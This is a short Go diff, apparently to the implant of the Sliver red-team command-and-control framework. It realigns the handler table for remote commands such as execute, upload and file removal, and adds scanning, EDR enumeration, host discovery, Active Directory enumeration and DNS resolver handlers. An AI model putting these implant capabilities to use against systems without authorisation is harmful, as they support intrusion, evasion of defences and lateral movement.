@@ -33,22 +33,27 @@ import (
 
 var (
 	genericHandlers = map[uint32]RPCHandler{
-		sliverpb.MsgPing:           pingHandler,
-		sliverpb.MsgLsReq:          dirListHandler,
-		sliverpb.MsgDownloadReq:    downloadHandler,
-		sliverpb.MsgUploadReq:      uploadHandler,
-		sliverpb.MsgCdReq:          cdHandler,
-		sliverpb.MsgPwdReq:         pwdHandler,
-		sliverpb.MsgRmReq:          rmHandler,
-		sliverpb.MsgMkdirReq:       mkdirHandler,
-		sliverpb.MsgMvReq:          mvHandler,
-		sliverpb.MsgCpReq:          cpHandler,
-		sliverpb.MsgExecuteReq:     executeHandler,
-		sliverpb.MsgSetEnvReq:      setEnvHandler,
-		sliverpb.MsgEnvReq:         getEnvHandler,
-		sliverpb.MsgUnsetEnvReq:    unsetEnvHandler,
-		sliverpb.MsgReconfigureReq: reconfigureHandler,
-		sliverpb.MsgChtimesReq:     chtimesHandler,
+		sliverpb.MsgPing:            pingHandler,
+		sliverpb.MsgLsReq:           dirListHandler,
+		sliverpb.MsgDownloadReq:     downloadHandler,
+		sliverpb.MsgUploadReq:       uploadHandler,
+		sliverpb.MsgCdReq:           cdHandler,
+		sliverpb.MsgPwdReq:          pwdHandler,
+		sliverpb.MsgRmReq:           rmHandler,
+		sliverpb.MsgMkdirReq:        mkdirHandler,
+		sliverpb.MsgMvReq:           mvHandler,
+		sliverpb.MsgCpReq:           cpHandler,
+		sliverpb.MsgExecuteReq:      executeHandler,
+		sliverpb.MsgSetEnvReq:       setEnvHandler,
+		sliverpb.MsgEnvReq:          getEnvHandler,
+		sliverpb.MsgUnsetEnvReq:     unsetEnvHandler,
+		sliverpb.MsgReconfigureReq:  reconfigureHandler,
+		sliverpb.MsgChtimesReq:      chtimesHandler,
+		sliverpb.MsgScanReq:         scanHandler,
+		sliverpb.MsgEDREnumReq:      edrEnumHandler,
+		sliverpb.MsgDiscoverReq:     discoverHandler,
+		sliverpb.MsgADEnumReq:       adEnumHandler,
+		sliverpb.MsgDNSResolversReq: dnsResolversHandler,
 
 		// Wasm Extensions - Note that execution can be done via a tunnel handler
 		sliverpb.MsgRegisterWasmExtensionReq:   registerWasmExtensionHandler,